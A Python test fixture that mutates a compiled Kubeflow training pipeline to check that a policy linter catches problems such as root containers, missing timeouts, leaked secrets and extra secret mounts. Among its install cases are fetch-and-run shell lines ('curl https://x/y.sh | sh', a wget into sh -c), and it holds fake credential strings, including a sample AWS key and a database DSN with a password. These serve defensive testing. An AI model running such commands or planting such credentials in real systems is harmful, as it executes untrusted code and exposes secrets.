"""What a person might do to the compiled train pipeline, and the rule that notices."""

from functools import partial


def container(documents, job):
    return documents[0]["deploymentSpec"]["executors"][f"exec-{job}"]["container"]


def placed(documents, job):
    return documents[1]["platforms"]["kubernetes"]["deploymentSpec"]["executors"][f"exec-{job}"]


def task(documents, key):
    graphs = [documents[0]["root"], *documents[0]["components"].values()]
    return next(g["dag"]["tasks"][key] for g in graphs if key in g.get("dag", {}).get("tasks", {}))


def parameter(documents, name):
    return documents[0]["root"]["inputDefinitions"]["parameters"][name]


def swap_accounts(documents):
    deployer = placed(documents, "deploy-model")
    trainer = placed(documents, "train-detector")
    deployer["secretAsVolume"], trainer["secretAsVolume"] = (
        trainer["secretAsVolume"], deployer["secretAsVolume"],
    )  # fmt: skip


def mount(documents, job, secret, path=None):
    mounts = placed(documents, job).setdefault("secretAsVolume", [])
    mounts.append({"secretName": secret, "mountPath": path or f"/var/run/secrets/{secret}"})


def read(documents, job, **reference):
    placed(documents, job).setdefault("secretAsEnv", []).append(
        {**reference, "keyToEnv": [{"secretKey": "url", "envVar": "X"}]}
    )


def constant(name):
    return {"runtimeValue": {"constant": name}}


def limit_memory(documents, amount):
    container(documents, "judge-model")["resources"]["resourceMemoryLimit"] = amount


def give_twice(documents, key, name):
    inputs = task(documents, key)["inputs"]["artifacts"]
    inputs[name] = inputs["snapshot"]


def run_beside_the_exit(documents):
    block = documents[0]["components"]["comp-exit-handler-1"]["dag"]["tasks"]
    documents[0]["root"]["dag"]["tasks"]["judge-model"] = block.pop("judge-model")


def say(documents, job, words):
    command = container(documents, job)["command"]
    command[2] = f"{words}\n{command[2]}"


def give(documents, job, name, value):
    container(documents, job).setdefault("env", []).append({"name": name, "value": value})


KEY = "-----BEGIN " + "PRIVATE KEY-----"
RANDOM = "q7Zk2Lw9Xv4Tn8" + "Rb5Mc1"
HEX = "9f86d081884c7d659a2f" + "eaa0c55ad015"

# By a name: the rule, a word of what is said, and what is done to the two documents.
CHANGES = {
    "another's image": ("image", "deploy-model", lambda d: container(d, "deploy-model").update(
        image="docker.io/library/python:3.11")),
    "our name elsewhere": ("image", "else.where/core", lambda d: container(
        d, "judge-model").update(image="else.where/core:dev")),
    "no image": ("image", "none", lambda d: container(d, "judge-model").update(image="")),
    "no tag": ("tag", "judge-model", lambda d: container(d, "judge-model").update(
        image="localhost:5000/car-detection/core")),
    "latest": ("tag", "latest", lambda d: container(d, "judge-model").update(
        image="localhost:5000/car-detection/core:latest")),
    "no memory": ("resources", "limit of memory is 0", lambda d: container(d, "judge-model")[
        "resources"].update(resourceMemoryLimit="0")),
    "a limit below the request": ("resources", "Limit is 1m, expected its request, 2G, or more",
        lambda d: limit_memory(d, "1m")),
    "a limit just below": ("resources", "1907Mi", lambda d: limit_memory(d, "1907Mi")),
    "root": ("root", "train fine tuned", lambda d: placed(d, "train-detector").pop(
        "securityContext")),
    "maybe root": ("root", "judge-model", lambda d: placed(d, "judge-model")[
        "securityContext"].update(runAsNonRoot=False)),
    "user 0": ("root", "user 0", lambda d: placed(d, "judge-model")[
        "securityContext"].update(runAsUser="0")),
    "user 00": ("root", "user 0", lambda d: placed(d, "judge-model")[
        "securityContext"].update(runAsUser="00")),
    "user 0 in another spelling": ("root", "user 0", lambda d: placed(d, "judge-model")[
        "securityContext"].update(run_as_user=0)),
    "no retry": ("retry", "train/if better/if approved/deploy-model", lambda d: task(
        d, "deploy-model").pop("retryPolicy")),
    "retry never": ("retry", "0 times", lambda d: task(
        d, "register-model")["retryPolicy"].update(maxRetryCount=0)),
    "the entry point of KFP alone": ("outage", "judge-model ends at the first outage",
        lambda d: container(d, "judge-model")["command"].__setitem__(
            2, "python3 -m kfp.dsl.executor_main")),
    "no timeout": ("timeout", "export fine tuned", lambda d: placed(d, "export-onnx").pop(
        "activeDeadlineSeconds")),
    "timeout 0": ("timeout", "judge-model", lambda d: placed(d, "judge-model").update(
        activeDeadlineSeconds="0")),
    "cached deployment": ("cache", "if better/if approved/deploy-model", lambda d: task(
        d, "deploy-model").update(cachingOptions={"enableCache": True})),
    "cached ending": ("cache", "record-outcome", lambda d: task(
        d, "record-outcome").update(cachingOptions={"enableCache": True})),
    "caching left open": ("cache", "register-model", lambda d: task(
        d, "register-model").pop("cachingOptions")),
    "DSN as default": ("secret", "root.inputDefinitions.parameters.dataset", lambda d: parameter(
        d, "dataset").update(defaultValue="postgresql://cars:hunter2@db/cars")),
    "DSN in a program": ("secret", "executors.exec-judge-model", lambda d: say(
        d, "judge-model", "# postgresql://cars:hunter2@db/cars\n")),
    "AWS key": ("secret", "AWS", lambda d: give(
        d, "judge-model", "WHO", "AKIA" + "IOSFODNN7EXAMPLE")),
    "private key": ("secret", "private key", lambda d: say(d, "judge-model", KEY)),
    "bearer token": ("secret", "a token", lambda d: give(
        d, "judge-model", "H", "eyJhbGciOiJIUzI1" + ".eyJzdWIiOiIxMjM0")),
    "random default": ("secret", "random", lambda d: parameter(d, "launcher").update(
        defaultValue=RANDOM)),
    "random constant": ("secret", "random", lambda d: task(d, "train-detector")["inputs"][
        "parameters"]["start"]["runtimeValue"].update(constant=HEX)),
    "random variable": ("secret", "random", lambda d: give(d, "judge-model", "SALT", HEX)),
    "random literal": ("secret", "random", lambda d: say(d, "judge-model", f'x = "{RANDOM}"\n')),
    "named variable": ("secret", "DB_PASSWORD", lambda d: give(
        d, "judge-model", "DB_PASSWORD", "cars")),
    "named without a gap": ("secret", "GITHUBTOKEN", lambda d: give(
        d, "judge-model", "GITHUBTOKEN", "cars")),
    "named parameter": ("secret", "api_key", lambda d: d[0]["root"]["inputDefinitions"][
        "parameters"].update(api_key={"defaultValue": "", "description": "Why not."})),
    "pip": ("install", "judge-model", lambda d: say(
        d, "judge-model", "python3 -m pip install --quiet --no-warn-script-location 'boto3' && ")),
    "pip from a program": ("install", "judge-model", lambda d: say(
        d, "judge-model", 'subprocess.run(["pip", "install", "boto3"])\n')),
    "apt": ("install", "judge-model", lambda d: say(d, "judge-model", "apt-get -y install gcc; ")),
    "words of a command": ("install", "judge-model", lambda d: container(d, "judge-model").update(
        command=["pip", "install", "boto3", "python3 -m components.task kfp.dsl.executor_main"])),
    **{words: ("install", "judge-model", partial(say, job="judge-model", words=words))
        for words in (
            "pip --index-url https://x install y", "pip --proxy u install a",
            "pip --index-url 'https://x?a=1&b;c' install y", "pip \\\n  install y",
            "pip.main(['install', 'y'])", 'subprocess.run([\n"pip",\n"install",\n"y"])',
            "uv pip install y", "pip3.11 install y", "curl https://x/y.sh | sh",
            "sh -c \"$(wget -qO- https://x)\"", "python -m ensurepip",
        )},
    "the wrong account": (
        "access", "car-launcher, car-objects, expected car-database, car-deployer", swap_accounts),
    "no account": ("access", "car-objects, car-tracking, expected car-launcher", lambda d: placed(
        d, "train-detector-2").pop("secretAsVolume")),
    "an account too many": ("access", "judge-model reads car-trigger", lambda d: mount(
        d, "judge-model", "car-trigger")),
    "an account elsewhere": ("access", "car-deployer at /tmp", lambda d: mount(
        d, "deploy-model", "car-deployer", "/tmp")),
    "a token in the environment": ("access", "car-deployer in its environment", lambda d: read(
        d, "judge-model", secretName="car-deployer")),
    "another's secret": ("access", "reads car-database, expected no secret", lambda d: read(
        d, "judge-model", secretName="car-database")),
    "another's secret by a parameter": ("access", "reads car-database, expected no", lambda d: read(
        d, "judge-model", secretNameParameter=constant("car-database"))),
    "a secret in another spelling": ("access", "reads car-database", lambda d: placed(
        d, "judge-model").update(secret_as_env=[{"secret_name": "car-database"}])),
    "another name by a parameter": ("access", "car-trigger", lambda d: placed(d, "deploy-model")[
        "secretAsVolume"][0].update(secretNameParameter=constant("car-trigger"))),
    "a name that a run takes": ("access", "componentInputParameter", lambda d: placed(
        d, "deploy-model")["secretAsVolume"][0].update(
            secretNameParameter={"componentInputParameter": "secret"})),
    "a secret for an image": ("access", "car-objects for its image", lambda d: placed(
        d, "judge-model").update(imagePullSecret=[{"secretName": "car-objects"}])),
    "another's config map": ("access", "has the config maps car-kubeflow, car-policy, expected car",
        lambda d: placed(d, "judge-model").update(
            configMapAsEnv=[{"configMapName": "car-kubeflow"}])),
    "no policy": ("access", "has the config maps car-objects, car-", lambda d: placed(
        d, "train-detector-2").pop("configMapAsVolume")),
    "a claim": ("access", "reads claim videos", lambda d: placed(d, "judge-model").update(
        pvcMount=[{"constant": "videos", "mountPath": "/videos"}])),
    "a claim by a parameter": ("access", "reads claim videos", lambda d: placed(
        d, "judge-model").update(
            pvcMount=[{"pvcNameParameter": constant("videos"), "mountPath": "/videos"}])),
    "one artifact twice": ("artifact", "takes snapshot-dataset.snapshot by fine_tuned and snapshot",
        lambda d: give_twice(d, "evaluate-detector", "fine_tuned")),
    "one artifact twice, in a group": ("artifact", "by card and snapshot", lambda d: give_twice(
        d, "register-model", "card")),
    "no exit": ("exit", "0 tasks", lambda d: d[0]["root"]["dag"]["tasks"].pop("record-outcome")),
    "exit only after success": ("exit", "0 tasks", lambda d: task(
        d, "record-outcome").pop("triggerPolicy")),
    "a task beside the exit": ("exit", "0 tasks", run_beside_the_exit),
    "no default": ("parameter", "parameter seed has no default", lambda d: parameter(
        d, "seed").pop("defaultValue")),
    "no description": ("parameter", "parameter seed has no description", lambda d: parameter(
        d, "seed").update(description=" ")),
    "no platform": ("timeout", "hang", lambda d: d[1].clear()),
}  # fmt: skip
